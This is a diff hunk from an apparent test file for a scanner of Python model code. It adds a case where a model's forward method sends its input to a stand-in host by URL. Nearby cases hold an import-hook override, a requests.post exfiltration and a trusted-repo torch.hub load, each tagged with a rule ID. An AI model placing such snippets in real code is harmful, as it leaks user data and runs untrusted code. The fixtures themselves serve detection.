@@ -16,6 +16,11 @@ const told: readonly (readonly [string, string, string, string?])[] = [
   ['a set built-in', "import builtins\nsetattr(builtins, '__import__', f)\n", 'MRL-PYC-008 high'],
   ['input sent away', forward("requests.post('https://a.example', json=ids)"), 'MRL-PYC-004 high'],
   [
+    'input in an address',
+    "import urllib.request as u\nclass M:\n  def forward(self, x):\n    u.urlopen('https://a.example/' + x)\n",
+    'MRL-PYC-004 high',
+  ],
+  [
     'a hub at import',
     "import torch\ntorch.hub.load('acme/x', 'm', trust_repo=True)\n",
     'MRL-PYC-009 high',
